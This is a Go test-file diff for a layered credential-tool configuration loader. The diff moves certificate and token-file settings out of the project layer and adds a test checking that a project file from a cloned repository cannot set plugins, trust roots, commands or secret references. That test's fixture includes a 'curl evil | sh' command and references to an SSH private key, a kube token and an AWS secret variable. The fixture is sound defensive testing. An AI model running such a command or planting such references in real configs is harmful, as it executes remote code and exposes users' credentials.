@@ -74,16 +74,18 @@ timeout = "1m"
 
 [profiles.ci.clientcreds]
 send_certificate_chain = "false"
+certificate = "file:certs/app.pem"
+federated_token_file = "token.jwt"
 
 [profiles.laptop]
 client_id = "22222222-2222-4222-8222-222222222222"
 chain = ["devicecode"]
 `
+	// A project file may choose and describe profiles, but not run
+	// code, add trust roots or reference the user's secrets and files
+	// (TestProjectFileLimits).
 	projectLayer = `[profiles.ci]
-ca_file = "proj-ca.pem"
-[profiles.ci.clientcreds]
-certificate = "file:certs/app.pem"
-federated_token_file = "token.jwt"
+remember_winner = false
 [profiles.ci.match]
 env = { CI = "true" }
 `
@@ -100,7 +102,7 @@ func TestLoadLayers(t *testing.T) {
 	sys := func(line, col int) Origin { return Origin{File: l.system, Line: line, Col: col} }
 	usr := func(line, col int) Origin { return Origin{File: l.user, Line: line, Col: col} }
 	prj := func(line, col int) Origin { return Origin{File: l.project, Line: line, Col: col} }
-	sysDir, prjDir := filepath.Dir(l.system), filepath.Dir(l.project)
+	sysDir, usrDir := filepath.Dir(l.system), filepath.Dir(l.user)
 	ci, laptop := f.Profiles["ci"], f.Profiles["laptop"]
 	tests := []struct {
 		name      string
@@ -114,13 +116,14 @@ func TestLoadLayers(t *testing.T) {
 		{"chain origin", ci.ChainOrigin, sys(7, 1)},
 		{"timeout: user over system defaults", ci.TimeoutOrigin, usr(2, 1)},
 		{"laptop timeout from system defaults", laptop.TimeoutOrigin, sys(3, 1)},
-		{"ca_file: project over system, made absolute against the project", ci.CAFile, Value{Raw: filepath.Join(prjDir, "proj-ca.pem"), Origin: prj(2, 1)}},
+		{"ca_file from system, made absolute against the system file", ci.CAFile, Value{Raw: filepath.Join(sysDir, "sys-ca.pem"), Origin: sys(8, 1)}},
+		{"remember_winner from project", ci.RememberWinner, false},
 		{"flow key: user over system", ci.Flows["clientcreds"]["send_certificate_chain"], Value{Raw: "false", Origin: usr(5, 1)}},
 		{"flow key only in system stays", ci.Flows["clientcreds"]["client_assertion_command"], Value{Raw: "get-assertion", Origin: sys(12, 1)}},
-		{"file: reference resolved against the project", ci.Flows["clientcreds"]["certificate"], Value{Raw: "file:" + filepath.Join(prjDir, "certs", "app.pem"), Origin: prj(4, 1)}},
-		{"*_file path resolved against the project", ci.Flows["clientcreds"]["federated_token_file"], Value{Raw: filepath.Join(prjDir, "token.jwt"), Origin: prj(5, 1)}},
+		{"file: reference resolved against the user file", ci.Flows["clientcreds"]["certificate"], Value{Raw: "file:" + filepath.Join(usrDir, "certs", "app.pem"), Origin: usr(6, 1)}},
+		{"*_file path resolved against the user file", ci.Flows["clientcreds"]["federated_token_file"], Value{Raw: filepath.Join(usrDir, "token.jwt"), Origin: usr(7, 1)}},
 		{"flow section origin: first layer", ci.FlowOrigins["clientcreds"], sys(10, 1)},
-		{"match from project", ci.Match.Rules, []Rule{{Kind: RuleEnv, Name: "CI", Value: "true", Origin: prj(7, 9)}}},
+		{"match from project", ci.Match.Rules, []Rule{{Kind: RuleEnv, Name: "CI", Value: "true", Origin: prj(4, 9)}}},
 		{"plugins.dir against the system file", f.Plugins.Dir, Value{Raw: filepath.Join(sysDir, "plugins"), Origin: sys(15, 1)}},
 		{"pins from system", f.Plugins.Pins["clientcreds"].Origin, sys(17, 1)},
 		{"profile origin: first layer", ci.Origin, sys(5, 1)},
@@ -322,7 +325,7 @@ func TestEffectiveNeverShowsSecrets(t *testing.T) {
 	l := newLayout(t,
 		sysLayer+"[profiles.ci.devicecode]\nlogin_hint = \"me@contoso.com\"\nsecret_thing = \"sys-"+canary+"\"\n[cache]\nkey = \"key-"+canary+"\"\n",
 		userLayer+"[profiles.laptop.devicecode]\nclient_secret = \"user-"+canary+"\"\nlist_secret = [\""+canary+"\"]\n",
-		projectLayer+"[profiles.ci.iwa]\npassword = \"env:"+canary+"-not/a/name\"\n")
+		projectLayer+"[profiles.ci.iwa]\npassword = \""+canary+"-inline\"\n")
 	o := l.options(map[string]string{"AZURE_CLIENT_SECRET": "env-" + canary})
 	o.Flags = []FlagSetting{{Flag: "--set", TOML: `profiles.ci.clientcreds.client_assertion = "flag-` + canary + `"`}}
 	f, err := LoadLayers(o)
@@ -338,11 +341,11 @@ func TestEffectiveNeverShowsSecrets(t *testing.T) {
 	}
 	want := map[string]any{
 		"profiles.ci.clientcreds.client_secret":          "env:AZURE_CLIENT_SECRET",
-		"profiles.ci.clientcreds.certificate":            "file:" + filepath.Join(filepath.Dir(l.project), "certs", "app.pem"),
+		"profiles.ci.clientcreds.certificate":            "file:" + filepath.Join(filepath.Dir(l.user), "certs", "app.pem"),
 		"profiles.ci.clientcreds.client_assertion":       Redacted,
 		"profiles.ci.devicecode.secret_thing":            Redacted,
 		"profiles.ci.devicecode.login_hint":              "me@contoso.com",
-		"profiles.ci.iwa.password":                       Redacted, // env: and no variable name: maybe a pasted secret
+		"profiles.ci.iwa.password":                       Redacted,
 		"profiles.laptop.devicecode.client_secret":       Redacted,
 		"profiles.laptop.devicecode.list_secret":         Redacted,
 		"cache.key":                                      Redacted,
@@ -363,4 +366,33 @@ func stringOf(v any) string {
 		return strings.Join(v, ",")
 	}
 	return ""
+}
+
+// TestProjectFileLimits: a project file (it may come with a cloned
+// repository) cannot make credhost run code, trust new roots, or send the
+// user's secrets and files to the authority it names.
+func TestProjectFileLimits(t *testing.T) {
+	project := `[plugins]
+dir = "evil-plugins"
+[cache]
+path = "tokens.bin"
+[profiles.ci]
+ca_file = "evil-ca.pem"
+[profiles.ci.clientcreds]
+client_assertion_command = "sh -c 'curl evil | sh'"
+federated_token_file = "/home/me/.kube/token"
+client_secret = "env:AWS_SECRET_ACCESS_KEY"
+certificate = "file:/home/me/.ssh/id_rsa"
+`
+	l := newLayout(t, sysLayer, userLayer, project)
+	_, err := LoadLayers(l.options(nil))
+	if err == nil {
+		t.Fatal("a project file set plugins, cache, ca_file, commands and references")
+	}
+	for _, want := range []string{"plugins.dir", "cache.path", "profiles.ci.ca_file", "clientcreds.client_assertion_command",
+		"clientcreds.federated_token_file", "clientcreds.client_secret", "clientcreds.certificate"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("error does not name %s:\n%v", want, err)
+		}
+	}
 }
